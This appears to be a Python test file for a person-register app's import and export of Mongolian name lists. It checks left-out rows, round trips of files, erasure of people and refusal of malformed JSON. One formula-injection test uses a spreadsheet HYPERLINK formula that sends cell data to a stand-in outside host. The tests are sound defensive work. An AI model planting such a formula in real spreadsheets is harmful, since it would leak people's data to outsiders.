"""Rows that make no person: counted, told, written to a file, completed and read again."""

import csv
import io

import pytest

from fieldreg.domain import kinds
from fieldreg.domain.problems import Code, Problem
from fieldreg.domain.records.values import ErasureReason
from fieldreg.services import erasure_orders
from fieldreg.services.exports.plaintext_exports import ExportContent, open_export
from fieldreg.services.exports.register_tables import export_people
from fieldreg.services.imports.column_mapping import map_columns
from fieldreg.services.imports.import_reports import NoteReason, RowOutcome
from fieldreg.services.imports.import_run import import_people, preview_import
from fieldreg.services.imports.left_out_rows import write_left_out_rows
from fieldreg.services.people import registration
from tests.services.imports.test_import import given_names, outcomes, run
from tests.support.foreign_files.parsed_here import parse_file

ENDINGS = [".csv", ".xlsx", ".json"]
SHEET = (
    "№,Нэр,Овог,Утас,Хүйс,Тайлбар\n"
    "1,Болд,Дорж,99112233,эр,\n"
    "2,,Бат,-,эм,'=1+1\n"
    "3,,Сүрэн,88112233,,сургуулиас\n"
    "4,12,Дорж,,,,илүү\n"
    "5,Бо\ufffdд,Дорж,,,\n"
    "6,,,,,\n"
    ",,,,,\n"
    "Нийт,6 хүн,,,,\n"
)


def preview(desk, path):
    table = parse_file(path)
    return table, preview_import(desk, table, map_columns(table.columns)).report


def write_rest(desk, table, report, path):
    with open_export(desk, path, ExportContent.LEFT_OUT_ROWS) as out:
        return write_left_out_rows(out, table, report, lambda note: f"<{note.why}>")


def write_table(path, lines):
    with path.open("w", encoding="utf-8", newline="") as file:
        out = csv.DictWriter(file, list(lines[0]), extrasaction="ignore")
        out.writeheader()
        out.writerows(lines)


def test_no_person_without_a_name_comes_out_of_an_import(desk, tmp_path):
    report = run(desk, tmp_path, SHEET)
    assert outcomes(report) == ["new", *["left-out"] * 4, *["empty"] * 3]
    assert given_names(desk) == ["Болд"]
    left_out = [entry for entry in report.entries if entry.outcome is RowOutcome.LEFT_OUT]
    assert all(NoteReason.NAME_MISSING in [note.why for note in one.notes] for one in left_out)
    assert NoteReason.TEXT_DAMAGED in [note.why for note in left_out[-1].notes]


@pytest.mark.parametrize("ending", ENDINGS)
def test_rows_left_out_are_written_completed_and_read_again(desk, tmp_path, ending):
    path = tmp_path / "list.csv"
    path.write_text(SHEET, encoding="utf-8")
    table = parse_file(path)
    report = import_people(desk, table, map_columns(table.columns))
    rest = tmp_path / f"rest{ending}"
    assert write_rest(desk, table, report, rest) == 4

    again, rows = preview(desk, rest)
    assert outcomes(rows) == ["left-out"] * 4
    assert rows.unmapped == ("#7",)
    first = [one for one in report.entries if one.outcome is RowOutcome.LEFT_OUT]
    assert [one.source_ref for one in rows.entries] == [one.source_ref for one in first]
    twice = tmp_path / f"twice{ending}"
    write_rest(desk, again, rows, twice)
    read, before = (next(iter(some.rows())).cells for some in (parse_file(twice), again))
    assert read[:-2] == before[:-2]

    if ending != ".csv":
        return
    lines = list(csv.DictReader(io.StringIO(rest.read_text(encoding="utf-8-sig"))))
    assert [(one["import_line"], one["import_reason"]) for one in lines][:2] == [
        ("3", "<means_unknown>; <guard_removed>; <name_missing>"),
        ("4", "<name_missing>"),
    ]
    lines[0]["Нэр"], lines[1]["Нэр"] = "Сүх", "Туяа"
    write_table(rest, lines)
    table = parse_file(rest)
    completed = import_people(desk, table, map_columns(table.columns))
    assert outcomes(completed) == ["new", "new", "left-out", "left-out"]
    person = desk.store.records.load_many(kinds.TRAINEE, [completed.entries[0].person])[0].values
    assert {name: value for name, value in person.items() if value} == {
        "source_ref": "2",
        "given_name": "Сүх",
        "patronymic": "Бат",
        "gender": "female",
        "notes": "=1+1",
    }

    lines[3]["Нэр"] = "Болд"
    whole = list(csv.DictReader(io.StringIO(SHEET)))[:5]
    mended = [
        {**row, "Нэр": name}
        for row, name in zip(whole, ("Болд", "Сүх", "Туяа", "Ану", "Болд"), strict=True)
    ]
    for file, rows, expected in (
        (rest, lines, ["here", "here", "left-out", "new"]),
        (rest, lines, ["here", "here", "left-out", "here"]),
        (path, whole, ["here", *["left-out"] * 4]),
        (path, mended, ["here", "here", "here", "new", "here"]),
    ):
        write_table(file, rows)
        table = parse_file(file)
        report = import_people(desk, table, map_columns(table.columns))
        assert outcomes(report) == expected


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_a_heading_of_others_calculates_nothing_where_rows_are_written(desk, tmp_path, ending):
    """In a workbook it may be text, which CSV would make a formula."""
    heading = '=HYPERLINK("http://elsewhere.example/?"&A2;"Нэр")'
    path = tmp_path / "list.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["Нэр", heading, "+утас"], ["", "a", "99112233"]])
    table = parse_file(path)
    report = import_people(desk, table, map_columns(table.columns))
    rest = tmp_path / f"rest{ending}"
    assert write_rest(desk, table, report, rest) == 1
    read = parse_file(rest)
    assert [title.removeprefix("'") for title in read.columns[:3]] == ["Нэр", heading, "+утас"]
    if ending == ".csv":
        headings = next(csv.reader(io.StringIO(rest.read_text(encoding="utf-8-sig"))))
        assert not [each for each in headings if each[0] in "=+-@\t\r"]
    assert map_columns(read.columns).fields.keys() == map_columns(table.columns).fields.keys()


def test_an_erased_person_does_not_come_back_out_of_a_file(office, tmp_path):
    desk = office.desk
    first = run(desk, tmp_path, "Нэр,Утас\nБолд,99112233\nСүх,88112233\n").entries[0].person
    other = registration.register_person(desk, {"given_name": "Оюун"})
    exported = tmp_path / "people.json"
    export_people(desk, exported)
    erasure_orders.erase_people(office.installation, [first, other], ErasureReason.ASKED)
    count = desk.store.people.count()
    again = run(desk, tmp_path, "Нэр,Утас\nБолд,99112233\nСүх,88112233\n")
    assert outcomes(again) == ["left-out", "here"]
    table = parse_file(exported)
    report = import_people(desk, table, map_columns(table.columns))
    assert outcomes(report) == ["left-out", "here", "left-out"]
    assert NoteReason.PERSON_ERASED in [note.why for note in report.entries[0].notes]
    assert desk.store.people.count() == count


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ('[\n{"given_name": "Болд"},\n{"name": "Сүх"}\n]\n', Code.TABLE_DAMAGED),
        ('[{"given_name": "Болд"\n', Code.TABLE_DAMAGED),
        ("[{" + "[" * 100_000, Code.TABLE_DAMAGED),
        ("[]\n", Code.TABLE_EMPTY),
    ],
)
def test_json_that_is_no_table_of_ours_is_refused(desk, tmp_path, text, code):
    path = tmp_path / "file.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(Problem) as refused:
        preview(desk, path)
    assert refused.value.code is code


def test_a_first_row_that_is_nobody_is_told(desk, tmp_path):
    path = tmp_path / "list.csv"
    path.write_text("Болд,Дорж\nСүх,Бат\n", encoding="utf-8")
    table = parse_file(path)
    report = import_people(desk, table, map_columns(table.columns, [("Болд", "given_name")]))
    assert report.count_reasons()[NoteReason.HEADINGS_UNKNOWN, ""] == 1
    path.write_text("Нэр\nСүх\n", encoding="utf-8")
    assert NoteReason.HEADINGS_UNKNOWN not in [note.why for note in parse_file(path).notes]
